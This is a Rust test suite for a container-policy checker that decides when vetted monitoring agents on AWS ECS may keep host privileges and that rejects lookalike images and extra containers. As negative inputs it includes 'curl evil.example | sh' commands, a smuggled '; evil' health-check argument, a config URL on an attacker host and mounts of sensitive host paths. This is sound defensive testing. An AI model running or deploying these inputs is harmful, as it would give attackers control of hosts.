use serde_json::{Value, json};

use super::*;
use crate::{Policy, catalogue, decide, policy::Profile};

fn facts(json: &Value) -> Facts {
    Facts {
        place: Some(Place::of_region("eu-west-1", "111122223333").unwrap()),
        observed_at: None,
        subject: Subject::TaskDefinition(Box::new(serde_json::from_value(json.clone()).unwrap())),
    }
}

fn policy(presets: &str) -> Policy {
    let text = format!("version: 1\nprofile: restricted\npresets: [{presets}]\n");
    Policy::from_yaml(&text, "2026-11-23T12:00:00Z".parse().unwrap()).unwrap()
}

/// What is waived, and what is left of the rules that the preset speaks of.
fn judged(preset: &str, json: &Value) -> (Vec<String>, Vec<String>) {
    let decision = decide(&facts(json), &policy(preset));
    let grants = Preset::find(preset).unwrap().grants;
    let place = |rule: &str, container: Option<&str>| match container {
        Some(container) => format!("{rule} {container}"),
        None => rule.to_owned(),
    };
    let left = decision
        .findings
        .iter()
        .filter(|f| grants.iter().any(|g| g.rule == f.rule));
    let mut left: Vec<_> = left
        .map(|f| place(f.rule, f.container.as_deref()))
        .collect();
    let mut waived: Vec<_> = decision.waived.iter().map(|w| w.rule.to_owned()).collect();
    for waived in &decision.waived {
        assert_eq!(
            (waived.waiver.as_str(), &waived.expires),
            (format!("preset:{preset}").as_str(), &None)
        );
    }
    left.sort();
    waived.sort();
    waived.dedup();
    (waived, left)
}

fn datadog(image: &str) -> Value {
    json!({
        "family": "datadog", "pidMode": "host", "requiresCompatibilities": ["EC2"],
        "containerDefinitions": [{
            "name": "agent", "image": image, "memory": 512,
            "portMappings": [{"containerPort": 8126, "hostPort": 8126}],
            "healthCheck": {"command": ["CMD-SHELL", "agent health"]},
            "linuxParameters": {"capabilities": {"add": ["SYS_ADMIN", "SYS_PTRACE", "CAP_NET_ADMIN"]}},
            "mountPoints": [
                {"sourceVolume": "docker_sock", "containerPath": "/var/run/docker.sock", "readOnly": true},
                {"sourceVolume": "proc", "containerPath": "/host/proc", "readOnly": true},
                {"sourceVolume": "cgroup", "containerPath": "/host/sys/fs/cgroup", "readOnly": true},
                {"sourceVolume": "debug", "containerPath": "/sys/kernel/debug"}],
        }],
        "volumes": [
            {"name": "docker_sock", "host": {"sourcePath": "/var/run/docker.sock"}},
            {"name": "proc", "host": {"sourcePath": "/proc/"}},
            {"name": "cgroup", "host": {"sourcePath": "/sys/fs/cgroup/"}},
            {"name": "debug", "host": {"sourcePath": "/sys/kernel/debug"}}],
    })
}

const DATADOG: &str = "public.ecr.aws/datadog/agent:7";

#[test]
fn an_agent_as_its_publisher_describes_it_has_what_it_needs() {
    let (waived, left) = judged("datadog-agent", &datadog(DATADOG));
    assert_eq!(left, [] as [String; 0]);
    let mut grants: Vec<&str> = Preset::find("datadog-agent")
        .unwrap()
        .grants
        .iter()
        .map(|g| g.rule)
        .collect();
    grants.sort_unstable();
    assert_eq!(waived, grants);
    // Without the preset none of it is.
    let decision = decide(&facts(&datadog(DATADOG)), &policy(""));
    assert_eq!(decision.waived, []);
}

#[test]
fn only_the_publishers_own_repositories_are_an_agents() {
    for (image, is_one) in [
        ("datadog/agent:7", true),
        ("docker.io/datadog/agent", true),
        ("index.docker.io/datadog/agent:7", true),
        ("gcr.io/datadoghq/agent:7", true),
        ("GCR.io/datadoghq/agent:7", true),
        ("public.ecr.aws/datadog/agent:7", true),
        ("ecr-public.aws.com/datadog/agent:7", true),
        ("registry.datadoghq.com/agent:7", true),
        ("evil.example/datadog/agent:7", false),
        ("evil.example/public.ecr.aws/datadog/agent:7", false),
        ("evil.example:443/datadoghq/agent", false),
        ("public.ecr.aws.evil.example/datadog/agent:7", false),
        ("public.ecr.aws/evil/datadog/agent:7", false),
        ("public.ecr.aws/datadog/agent/evil:7", false),
        ("public.ecr.aws/datadog/agent-evil:7", false),
        ("public.ecr.aws/datadogs/agent:7", false),
        ("gcr.io/datadog/agent:7", false),
        ("evil/agent:datadog/agent", false),
        ("evil/agent:7-public.ecr.aws-datadog-agent", false),
        ("agent", false),
        (
            "111122223333.dkr.ecr.eu-west-1.amazonaws.com/datadog/agent:7",
            false,
        ),
        ("${IMAGE}", false),
    ] {
        let (waived, _) = judged("datadog-agent", &datadog(image));
        assert_eq!(!waived.is_empty(), is_one, "{image}");
    }
    let fluent_bit = |image: &str| {
        let json = json!({"containerDefinitions": [{"name": "router", "image": image}]});
        !judged("ecs-managed-sidecars", &json).0.is_empty()
    };
    assert!(fluent_bit(
        "906394416424.dkr.ecr.eu-west-1.amazonaws.com/aws-for-fluent-bit:stable"
    ));
    assert!(fluent_bit(
        "906394416424.dkr-ecr.eu-west-1.on.aws/aws-for-fluent-bit:stable"
    ));
    assert!(!fluent_bit(
        "906394416425.dkr.ecr.eu-west-1.amazonaws.com/aws-for-fluent-bit:stable"
    ));
    assert!(!fluent_bit(
        "906394416424.dkr.ecr.eu-west-1.amazonaws.com/other:stable"
    ));
    assert!(!fluent_bit(
        "906394416424.dkr.ecr.eu-west-1.amazonaws.com.evil.example/aws-for-fluent-bit"
    ));
}

/// Whether the host's own is waived, which an intruder is after.
fn gets_the_host(json: &Value) -> bool {
    let (waived, _) = judged("datadog-agent", json);
    waived.iter().any(|rule| {
        [
            "dangerous-capability",
            "host-pid",
            "host-runtime-socket",
            "sensitive-host-path",
        ]
        .contains(&rule.as_str())
    })
}

#[test]
fn nobody_gets_the_host_in_an_agents_company() {
    assert!(gets_the_host(&datadog(DATADOG)));
    for other in [
        json!({"name": "app", "image": "example/app:1"}),
        json!({"name": "app", "image": "example/app:1", "mountPoints": [{"sourceVolume": "docker_sock"}]}),
        json!({"name": "agent", "image": "example/app:1"}),
        json!({"name": "app"}),
        json!({"name": "app", "image": DATADOG, "command": ["sh"]}),
        // Of another preset, which gives less.
        json!({"name": "xray", "image": "amazon/aws-xray-daemon"}),
    ] {
        for first in [true, false] {
            let mut json = datadog(DATADOG);
            let containers = json["containerDefinitions"].as_array_mut().unwrap();
            containers.insert(usize::from(!first), other.clone());
            assert!(!gets_the_host(&json), "{other}");
        }
    }
    let mut json = datadog(DATADOG);
    let mut twin = json["containerDefinitions"][0].clone();
    twin["name"] = json!("trace-agent");
    json["containerDefinitions"]
        .as_array_mut()
        .unwrap()
        .push(twin);
    assert!(gets_the_host(&json));
    let (waived, _) = judged(
        "datadog-agent",
        &json!({"pidMode": "host", "containerDefinitions": []}),
    );
    assert!(waived.is_empty());
}

#[test]
fn a_containers_own_findings_are_waived_for_the_agent_alone() {
    let mut json = datadog(DATADOG);
    // ECS would refuse a name that stands twice; what it stands for is the position.
    let app = json!({"name": "agent", "image": "example/app:1", "user": "root", "memory": 1});
    json["containerDefinitions"]
        .as_array_mut()
        .unwrap()
        .push(app);
    let decision = decide(&facts(&json), &policy("datadog-agent"));
    let root: Vec<&str> = decision
        .findings
        .iter()
        .filter(|f| f.rule == "root-user")
        .map(|f| f.pointer.as_str())
        .collect();
    assert_eq!(root, ["/containerDefinitions/1/user"]);
}

#[test]
fn an_agent_that_runs_something_else_is_none() {
    for (member, value, is_one) in [
        ("command", json!([]), true),
        (
            "command",
            json!(["sh", "-c", "curl evil.example | sh"]),
            false,
        ),
        ("command", json!(["agent", "run"]), false),
        ("entryPoint", json!(["/bin/sh"]), false),
        ("entryPoint", Value::Null, true),
        ("healthCheck", Value::Null, true),
        (
            "healthCheck",
            json!({"command": ["CMD-SHELL", "curl evil.example | sh"]}),
            false,
        ),
        (
            "healthCheck",
            json!({"command": ["CMD-SHELL", "agent health", "; evil"]}),
            false,
        ),
    ] {
        let mut json = datadog(DATADOG);
        json["containerDefinitions"][0][member] = value.clone();
        assert_eq!(gets_the_host(&json), is_one, "{member} {value}");
    }
    let collector = |config: &str| {
        let json = json!({"containerDefinitions": [{"name": "c", "image": "amazon/aws-otel-collector",
            "command": [config]}]});
        !judged("ecs-managed-sidecars", &json).0.is_empty()
    };
    assert!(collector("--config=/etc/ecs/ecs-default-config.yaml"));
    assert!(!collector("--config=https://evil.example/config.yaml"));
}

#[test]
fn an_agent_gets_no_more_than_it_needs() {
    for (path, read_only, is_covered) in [
        ("/proc", true, true),
        ("/proc", false, false),
        ("/proc/..", true, false),
        ("/proc/1/root/etc", true, false),
        ("/etc", true, false),
        ("/etc/passwd", true, true),
        ("/etc/shadow", true, false),
        ("/root", true, false),
        ("/sys/kernel/debug", false, true),
    ] {
        let mut json = datadog(DATADOG);
        json["volumes"][1]["host"]["sourcePath"] = json!(path);
        json["containerDefinitions"][0]["mountPoints"][1]["readOnly"] = json!(read_only);
        let (_, left) = judged("datadog-agent", &json);
        assert_eq!(left.is_empty(), is_covered, "{path} {read_only} {left:?}");
    }
    for (path, is_covered) in [
        ("/run/docker.sock", true),
        ("/run/containerd/containerd.sock", true),
        ("/run", false),
        ("/", false),
        ("/var/run/ecs", false),
    ] {
        let mut json = datadog(DATADOG);
        json["volumes"][0]["host"]["sourcePath"] = json!(path);
        let (_, left) = judged("datadog-agent", &json);
        assert_eq!(left.is_empty(), is_covered, "{path} {left:?}");
    }
    for (capability, is_covered) in [("SYS_PTRACE", true), ("SYS_MODULE", false), ("ALL", false)] {
        let mut json = datadog(DATADOG);
        json["containerDefinitions"][0]["linuxParameters"]["capabilities"]["add"] =
            json!([capability]);
        let (_, left) = judged("datadog-agent", &json);
        assert_eq!(left.is_empty(), is_covered, "{capability} {left:?}");
    }
    let mut json = datadog(DATADOG);
    json["containerDefinitions"][0]["privileged"] = json!(true);
    let decision = decide(&facts(&json), &policy("datadog-agent"));
    assert!(
        decision
            .findings
            .iter()
            .any(|f| f.rule == "privileged-container")
    );
}

#[test]
fn falco_may_be_privileged_and_no_other_preset_covers_that() {
    for preset in PRESETS {
        let covers = preset
            .grants
            .iter()
            .any(|grant| grant.rule == "privileged-container");
        assert_eq!(covers, preset.name == "falco", "{}", preset.name);
    }
    let json = json!({"containerDefinitions": [{"name": "falco", "image": "falcosecurity/falco:0.43.0", "privileged": true}]});
    let (waived, left) = judged("falco", &json);
    assert!(waived.contains(&"privileged-container".to_owned()));
    assert_eq!(left, [] as [String; 0]);
    let mut in_company = json;
    let app = json!({"name": "app", "image": "example/app:1"});
    let containers = in_company["containerDefinitions"].as_array_mut();
    containers.unwrap().push(app);
    let (_, left) = judged("falco", &in_company);
    assert!(left.contains(&"privileged-container falco".to_owned()));
}

#[test]
fn batch_is_known_by_who_registered_the_definition() {
    let json = |by: &str| {
        json!({"family": "job", "networkMode": "host", "registeredBy": by,
            "taskDefinitionArn": "arn:aws:ecs:eu-west-1:111122223333:task-definition/job:1",
            "containerDefinitions": [{"name": "default", "image": "example/job", "privileged": true}]})
    };
    for (by, is_batch) in [
        (
            "arn:aws:sts::111122223333:assumed-role/AWSServiceRoleForBatch/aws-batch",
            true,
        ),
        (
            "arn:aws:sts::999999999999:assumed-role/AWSServiceRoleForBatch/aws-batch",
            false,
        ),
        (
            "arn:aws:sts::111122223333:assumed-role/deployer/AWSServiceRoleForBatch",
            false,
        ),
        (
            "arn:aws:sts::111122223333:assumed-role/AWSServiceRoleForBatchX/aws-batch",
            false,
        ),
        (
            "arn:aws:sts::111122223333:assumed-role/AWSServiceRoleForBatch/",
            false,
        ),
        (
            "arn:aws:iam::111122223333:role/AWSServiceRoleForBatch",
            false,
        ),
        ("", false),
    ] {
        let (waived, _) = judged("aws-batch", &json(by));
        assert_eq!(!waived.is_empty(), is_batch, "{by}");
    }
    let mut unregistered = json("");
    unregistered.as_object_mut().unwrap().remove("registeredBy");
    assert!(judged("aws-batch", &unregistered).0.is_empty());
}

#[test]
fn every_preset_is_well_formed() {
    for preset in PRESETS {
        assert!(Preset::find(preset.name) == Some(preset));
        assert!(!preset.grants.is_empty());
        for grant in preset.grants {
            assert!(catalogue::find(grant.rule).is_some(), "{}", grant.rule);
            assert!(!grant.reason.is_empty() && !grant.reason.ends_with('.'));
        }
        let mut rules: Vec<&str> = preset.grants.iter().map(|grant| grant.rule).collect();
        rules.sort_unstable();
        rules.dedup();
        assert_eq!(rules.len(), preset.grants.len(), "{}", preset.name);
        if let Whose::Agent { images, .. } = &preset.subject {
            for image in *images {
                let text = image.to_string().replace('*', "eu-west-1");
                let reference = ImageReference::parse(&text).unwrap();
                assert!(image.is(&reference), "{text}");
            }
        }
    }
}

#[test]
fn presets_change_nothing_for_anybody_else() {
    let policy = policy("datadog-agent, falco, cloudwatch-agent, ecs-managed-sidecars, aws-batch");
    let plain = Policy::of_profile(Profile::Restricted);
    let json = json!({"pidMode": "host", "networkMode": "host", "containerDefinitions": [
        {"name": "app", "image": "example/app", "privileged": true}]});
    assert_eq!(
        decide(&facts(&json), &policy),
        decide(&facts(&json), &plain)
    );
}

#[test]
fn the_cloudwatch_agent_reads_the_instance_and_writes_nothing() {
    let json = |read_only: bool| {
        let mount = |volume: &str| json!({"sourceVolume": volume, "containerPath": "/x", "readOnly": read_only});
        json!({"family": "ecs-cwagent-daemon-service", "networkMode": "bridge",
            "containerDefinitions": [{"name": "cloudwatch-agent", "image": "amazon/cloudwatch-agent:1.247354.0b251981",
                "mountPoints": [mount("proc"), mount("dev"), mount("cgroup")]}],
            "volumes": [
                {"name": "proc", "host": {"sourcePath": "/proc"}},
                {"name": "dev", "host": {"sourcePath": "/dev"}},
                {"name": "cgroup", "host": {"sourcePath": "/sys/fs/cgroup"}}]})
    };
    let (waived, left) = judged("cloudwatch-agent", &json(true));
    assert_eq!(waived.len(), 4);
    assert_eq!(left, [] as [String; 0]);
    let (_, left) = judged("cloudwatch-agent", &json(false));
    assert_eq!(left.len(), 3, "{left:?}");
}
